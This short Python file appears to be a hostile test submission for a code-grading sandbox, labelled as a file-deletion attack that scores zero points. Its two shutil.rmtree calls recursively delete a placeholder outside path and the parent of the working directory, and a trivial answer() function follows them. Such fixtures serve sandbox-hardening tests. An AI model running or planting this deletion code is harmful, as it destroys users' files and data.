#| attack: deletes all that it finds
#| row: files
#| points: 0
import shutil, os
shutil.rmtree('@OUTSIDE@', ignore_errors=True)
shutil.rmtree(os.path.dirname(os.getcwd()), ignore_errors=True)
def answer():
    return 1
